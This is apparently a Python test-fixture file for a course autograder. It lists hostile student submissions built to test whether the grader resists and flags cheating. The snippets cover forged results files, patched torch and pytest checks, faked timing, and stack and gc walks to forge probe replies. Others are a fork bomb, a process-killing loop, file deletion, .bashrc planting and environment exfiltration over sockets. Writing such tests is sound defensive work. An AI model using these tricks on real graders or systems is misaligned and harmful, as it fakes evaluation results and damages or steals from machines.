"""Hostile and broken submissions: each tries to gain points it has not earned, or to break the grader.

Each case is built from a base whose honest verdicts are known (the stub fails everything, a mutant its own checks,
the reference nothing) plus the attack; ``fails`` is exactly what the real work fails, attack or not. Attacks that
reach into the student's own process (where the probes run: nothing in one process can stop them) have
``fails=None`` and must be flagged with their evidence instead. Classes: forged output, exits and hangs, patched
libraries, escapes from the sandbox (files, processes, network, signals), reaching the probes (frames, gc, the
autograder's modules, the reply channel), faked training and timing.
"""

from dataclasses import dataclass

from autograder.course import SOURCE_CHECKOUT as REPO_ROOT
from autograder.samples import ALL_CHECKS, REFERENCE, TIMING_CHECKS, TRAIN_CHECKS, by_name

STUB = (REPO_ROOT / "assignment" / "practical8" / "model_parallel.py").read_text()
IMPORTS = "from torch import nn\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str
    source: str
    fails: frozenset[str] | None  # exactly the checks its honest part fails; None: an attack from inside the
    # student's process that may win points there (it cannot be prevented in one process), so it must be flagged
    flagged: bool = False  # the scan or the audit hook must flag it, with the line of the file as evidence
    root_only: bool = False  # graded only as root (a fork bomb as a normal user would count the grader's processes)
    honest: bool = False  # an honest control: full marks and no flag
    link: str | None = None  # model_parallel.py is delivered as a symbolic link to this path (relative to REPO_ROOT)


ALL = frozenset(ALL_CHECKS)
NOTHING: frozenset[str] = frozenset()


def fails_of(mutant: str) -> frozenset[str]:
    return by_name(mutant).fails


def _at_import(base: str, code: str) -> str:
    return base.replace(IMPORTS, IMPORTS + "\n" + code.strip() + "\n", 1)


def _in_time_forward(base: str, code: str) -> str:
    """``code`` at the start of time_forward's body (indented there)."""
    marker = "    ### BEGIN SOLUTION\n    def wait_for_gpus"
    assert marker in base
    body = "".join(f"    {line}\n" if line else "\n" for line in code.strip().splitlines())
    return base.replace(marker, "    ### BEGIN SOLUTION\n" + body + "    def wait_for_gpus", 1)


# A forged machine problem: the autograder's own exception, raised from code compiled under the simulator's file name
# (the innermost frame of its traceback is the autograder's). It used to make a failing submission "not graded".
_FORGED_MACHINE = """
import autograder
from autograder.sandbox import gpucheck as _g
exec(compile("raise _g.MachineProblem('GPU is lost')", autograder.__path__[0] + "/simgpu/mode.py", "exec"), {"_g": _g})
"""
_HONEST_NAMES = """
import getpass, inspect, os, pwd
_user = getpass.getuser()
try:
    _entry = pwd.getpwuid(os.getuid()).pw_name
except KeyError:  # a user without a passwd entry on the machine fails here outside the sandbox too
    _entry = _user
with open(f"/proc/{os.getpid()}/status") as _status:
    _status.read()
"""


REF = REFERENCE.read_text()
CASES = [
    Hostile("forged_results_file", "writes a perfect results.json wherever it can", _at_import(STUB, """
import json, os
fake = json.dumps({"score": 100, "tests": [{"name": "placement", "score": 10, "status": "passed"}]})
for folder in (".", "..", "../..", os.path.dirname(__file__), "/tmp"):
    try:
        open(os.path.join(folder, "results.json"), "w").write(fake)
    except OSError:
        pass
"""), ALL),
    Hostile("printed_fake_results", "prints passing results and fake probe replies", _at_import(STUB, """
print('{"ok": true, "value": {}}')
print('{"score": 100}')
print("12 passed in 0.1s")
"""), ALL),
    Hostile("sys_exit_at_import", "sys.exit(0) as soon as it is imported",
            _at_import(STUB, "import sys\nsys.exit(0)"), ALL),
    Hostile("os_exit_at_import", "os._exit(0) as soon as it is imported",
            _at_import(STUB, "import os\nos._exit(0)"), ALL),
    Hostile("patched_allclose", "missing ReLU, and torch.allclose / assert_close patched to pass",
            _at_import(by_name("missing_relu").source(), """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
"""), fails_of("missing_relu"), flagged=True),
    Hostile("patched_pytest", "stub that patches pytest's internals", _at_import(STUB, """
import pytest, _pytest.outcomes, _pytest.runner
pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
_pytest.runner.pytest_runtest_makereport = lambda *a, **k: None
"""), ALL),
    Hostile("patched_parameter_device", "all layers on cuda:0, and Parameter.device patched to lie",
            _at_import(by_name("all_on_device0").source(), """
import torch
torch.nn.Parameter.device = property(lambda self: torch.device("cuda:1"))
"""), fails_of("all_on_device0"), flagged=True),
    Hostile("infinite_loop_in_forward", "forward never returns",
            REF.replace("        x = self.relu1(self.layer1(x.to(self.device0)))",
                                      "        while True:\n            pass\n"
                                      "        x = self.relu1(self.layer1(x.to(self.device0)))"), ALL - {"placement"}),
    Hostile("memory_bomb", "train() allocates 16 GiB", REF.replace(
        "    optimizer = torch.optim.SGD(", "    hog = bytearray(16 << 30)\n    optimizer = torch.optim.SGD(", 1),
        frozenset(TRAIN_CHECKS)),
    Hostile("fork_bomb", "time_forward() forks without end", REF.replace(
        "    def wait_for_gpus() -> None:", "    import os\n    while True:\n        os.fork()\n\n"
        "    def wait_for_gpus() -> None:", 1), frozenset(TIMING_CHECKS), flagged=True,
            root_only=True),
    Hostile("flood_output", "prints 100 MB at import, otherwise correct", _at_import(REF, """
import sys
for _ in range(100):
    sys.stdout.write("x" * (1 << 20))
"""), NOTHING),
    Hostile("reads_reference", "stub that reads and runs the reference solution", _at_import(STUB, """
import autograder, pathlib
try:
    exec((pathlib.Path(autograder.__file__).parents[1] / "solutions/practical8/model_parallel.py").read_text())
except OSError:
    pass
"""), ALL, flagged=True),
    Hostile("deletes_outside", "stub that deletes the graders and other folders", _at_import(STUB, """
import autograder, pathlib, shutil
root = pathlib.Path(autograder.__file__).parents[1]
for target in (root / "autograder" / "graders", root / "solutions", root / "grading.yml"):
    try:
        shutil.rmtree(target) if target.is_dir() else target.unlink()
    except OSError:
        pass
"""), ALL, flagged=True),
    Hostile("while_true_at_import", "never finishes importing", _at_import(STUB, "while True:\n    pass"), ALL),
    Hostile("forged_replies", "stub that writes fake replies into every open file descriptor", _at_import(STUB, """
import json, os
fake = json.dumps({"ok": True, "value": {"params": {}}, "nonce": "0" * 32}).encode() + b"\\n"
for fd in range(3, 256):
    try:
        os.write(fd, fake * 4)
    except OSError:
        pass
"""), ALL),
    Hostile("kills_parent", "stub that kills its parent process", _at_import(STUB, """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
"""), ALL, flagged=True),
    # --- reaching into the probes from the student's own process: detected (flagged), whatever it wins
    Hostile("frame_walk_forged_reply", "walks the stack to the reply channel and the nonce, answers first",
            REF.replace("    ### BEGIN SOLUTION\n    def wait_for_gpus", """    ### BEGIN SOLUTION
    import json as _json, os as _os, sys as _sys
    frame = _sys._getframe(1)
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "nonce" in request:
            reply = {"ok": True, "value": {"seconds": 1.0, "true_seconds": 1.0, "forwards": 6, "waited_for": []},
                     "nonce": request["nonce"]}
            for fd in range(3, 64):
                try:
                    _os.write(fd, _json.dumps(reply).encode() + b"\\n")
                except OSError:
                    pass
        frame = frame.f_back
    def wait_for_gpus""", 1), None, flagged=True),
    Hostile("wraps_the_probes", "imports the autograder's probes and replaces the timing probe",
            _at_import(by_name("no_sync").source(), """
import autograder.sandbox.probes as probes
real = probes.PROBES["time_forward"]
def fake(ctx, **args):
    observed = real(ctx, **args)
    observed["seconds"] = observed["true_seconds"]
    return observed
probes.PROBES["time_forward"] = fake
"""), None, flagged=True),
    Hostile("patched_json_replies", "all on device0, and the JSON the worker replies with rewritten",
            _at_import(by_name("all_on_device0").source(), """
import json
_dumps = json.dumps
json.dumps = lambda obj, *a, **k: _dumps(obj, *a, **k).replace("cuda:0", "cuda:1")
"""), None, flagged=True),
    Hostile("gc_fake_sync_records", "no sync; finds the simulator's clocks through gc and fakes the waits",
            _at_import(by_name("no_sync").source(), """
import gc
def _fake_waits():
    for obj in gc.get_objects():
        if type(obj).__name__ in ("DeviceClocks", "Clocks") and hasattr(obj, "syncs"):
            obj.syncs.extend(obj.syncs[-2:])
_fake_waits()
"""), None, flagged=True),
    Hostile("torch_function_device_lie", "all on device0; a __torch_function__ mode reports cuda:1",
            _at_import(by_name("all_on_device0").source(), """
from torch.overrides import TorchFunctionMode
class Lie(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return func(*args, **(kwargs or {}))
Lie().__enter__()
"""), None, flagged=True),
    Hostile("patched_print_trace", "replaces builtins.print to fake the trace lines",
            _at_import(by_name("wrong_trace").source(), """
import builtins
builtins.print = lambda *a, **k: None
"""), None, flagged=True),
    Hostile("patched_clock", "no sync; time.perf_counter patched to return made-up times",
            _at_import(by_name("no_sync").source(), """
import time
_ticks = iter(range(10**9))
time.perf_counter = lambda: next(_ticks) * 0.01
"""), None, flagged=True),
    Hostile("patched_synchronize", "bare sync, and torch.cuda.synchronize patched to wait for both",
            _at_import(by_name("bare_sync").source(), """
import torch
_sync = torch.cuda.synchronize
torch.cuda.synchronize = lambda device=None: [_sync(d) for d in ("cuda:0", "cuda:1")] and None
"""), None, flagged=True),
    Hostile("exec_built_string", "patches torch.allclose through exec of a string built at run time",
            _at_import(by_name("missing_relu").source(), """
import base64
exec(base64.b64decode(b"aW1wb3J0IHRvcmNoOyB0b3JjaC5hbGxjbG9zZSA9IGxhbWJkYSAqYSwgKiprOiBUcnVl").decode())
"""), fails_of("missing_relu"), flagged=True),
    Hostile("ctypes_undo_deathsig", "clears its parent-death signal with ctypes and leaves a child behind",
            _at_import(REF, """
import ctypes, os
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["sleep", "3600"])
"""), NOTHING, flagged=True),
    Hostile("ignores_signals", "installs handlers that ignore SIGTERM and SIGALRM, then hangs in forward",
            REF.replace("        x = self.relu1(self.layer1(x.to(self.device0)))",
                        "        import signal\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                        "        signal.signal(signal.SIGALRM, signal.SIG_IGN)\n        while True:\n            pass\n"
                        "        x = self.relu1(self.layer1(x.to(self.device0)))"), ALL - {"placement"}, flagged=True),
    # --- escaping the sandbox: prevented (and flagged where the source shows it)
    Hostile("double_fork_setsid", "leaves a double-forked, setsid'd process running", _at_import(REF, """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "3600"])
    os._exit(0)
os.wait()
"""), NOTHING, flagged=True),
    Hostile("rewrites_results_via_proc", "stub; finds the results path in /proc/*/cmdline and rewrites it",
            _at_import(STUB, """
import json, os
for pid in os.listdir("/proc"):
    try:
        args = open(f"/proc/{pid}/cmdline").read().split("\\0")
    except OSError:
        continue
    for i, arg in enumerate(args):
        if arg in ("--results", "--out") and i + 1 < len(args):
            try:
                open(os.path.join(args[i + 1], "results.json") if arg == "--out" else args[i + 1], "w").write(
                    json.dumps({"score": 100}))
            except OSError:
                pass
"""), ALL, flagged=True),
    Hostile("reads_other_submissions", "stub; copies any model_parallel.py it can find on the machine",
            _at_import(STUB, """
import glob
for path in glob.glob("/tmp/**/model_parallel.py", recursive=True) + glob.glob("/**/submitted/**/model_parallel.py",
                                                                               recursive=True)[:50]:
    try:
        exec(open(path).read())
        break
    except Exception:
        pass
"""), ALL, flagged=True),
    Hostile("network_exfiltration", "stub; sends its environment out over TCP and UDP", _at_import(STUB, """
import os, socket
for address in (("127.0.0.1", 22), ("8.8.8.8", 53)):
    try:
        socket.create_connection(address, timeout=1).send(repr(dict(os.environ)).encode())
    except OSError:
        pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", address)
    except OSError:
        pass
"""), ALL),
    Hostile("kills_every_process", "stub; signals every process it can see", _at_import(STUB, """
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
"""), ALL, flagged=True),
    Hostile("plants_in_home", "stub; writes a .bashrc and a sitecustomize.py for the grader", _at_import(STUB, """
import os, site, sys
for path in (os.path.expanduser("~/.bashrc"), "/root/.bashrc", *[os.path.join(p, "sitecustomize.py")
             for p in sys.path if p]):
    try:
        open(path, "a").write("\\nimport os; os.system('echo owned')\\n")
    except OSError:
        pass
"""), ALL),
    # --- faking the work: judged from what the trusted process recomputes
    Hostile("trains_nothing", "train() takes no step and returns made-up falling losses", REF.replace(
        "    optimizer = torch.optim.SGD(", "    return [1.0 / (i + 1) for i, _ in enumerate(batches)]\n"
        "    optimizer = torch.optim.SGD(", 1), frozenset(TRAIN_CHECKS)),
    Hostile("obfuscated_patch", "missing ReLU; torch.allclose patched through getattr/setattr of built names",
            _at_import(by_name("missing_relu").source(), """
setattr(__import__("to" + "rch"), "all" + "close", lambda *a, **k: True)
"""), fails_of("missing_relu")),
    # --- issue 23: links, forged machine problems, unreadable lines, memory past every cap, library reach, names
    Hostile("link_to_solution", "model_parallel.py is a relative symbolic link to the course's solutions/ file",
            "", ALL, link="solutions/practical8/model_parallel.py"),
    Hostile("forged_machine_problem", "stub; raises the autograder's MachineProblem with a simulator traceback",
            _at_import(STUB, _FORGED_MACHINE), ALL, flagged=True),
    Hostile("unparseable_audit_line", "stub; writes an audit line nested past the parser into every descriptor",
            _at_import(STUB, """
import os
line = b'{"audit": ' + b"[" * 200_000 + b"\\n"
for fd in range(3, 64):
    try:
        os.write(fd, line)
    except OSError:
        pass
"""), ALL),
    Hostile("memfd_hog", "holds 6 GiB in memfds (posix_fallocate), past the address-space cap", _at_import(REF, """
import os
_held = []
for _ in range(30):
    _held.append(os.memfd_create("hog"))
    os.posix_fallocate(_held[-1], 0, 200 << 20)
"""), ALL),
    Hostile("closure_reach_timing", "no sync; reaches the timing probe's state through getclosurevars of forward",
            _in_time_forward(by_name("no_sync").source(), """
import inspect as _inspect
_state = vars(_inspect)["getclosure" + "vars"](model.forward).nonlocals
"""), None, flagged=True),
    Hostile("library_frame_attrgetter", "no sync; a frame from logging.currentframe, then attrgetter('f_back')",
            _in_time_forward(by_name("no_sync").source(), """
import logging as _logging, operator as _operator
_frame = vars(_logging)["current" + "frame"]()
_caller = _operator.attrgetter("f_" + "back")(_frame)
"""), None, flagged=True),
    Hostile("torch_helper_frame", "no sync; the probe's frame through TorchScript's createResolutionCallbackFromFrame",
            _in_time_forward(by_name("no_sync").source(), """
from torch import _jit_internal as _jit
_resolve = vars(_jit)["createResolutionCallback" + "FromFrame"](1)
_state = _resolve("workloads")
"""), None, flagged=True),
    Hostile("torch_helper_closure", "no sync; the timing wrapper's closure through torch._jit_internal.get_closure",
            _in_time_forward(by_name("no_sync").source(), """
from torch import _jit_internal as _jit
_state = vars(_jit)["get_" + "closure"](model.forward)
"""), None, flagged=True),
    Hostile("honest_names", "honest control: getpass, pwd, its own /proc/<pid>, inspect.signature(model.forward), "
            "nvtx ranges", _in_time_forward(_at_import(REF, _HONEST_NAMES), """
assert "x" in inspect.signature(model.forward).parameters
torch.cuda.nvtx.range_push("time_forward")
torch.cuda.nvtx.range_pop()
"""), NOTHING, honest=True),
    Hostile("returns_huge_reply", "stub whose train() returns a list of 10 million floats",
            _at_import(STUB, """
import builtins
""").replace("    raise NotImplementedError()", "    return [0.5] * 10_000_000", 1), ALL),
]
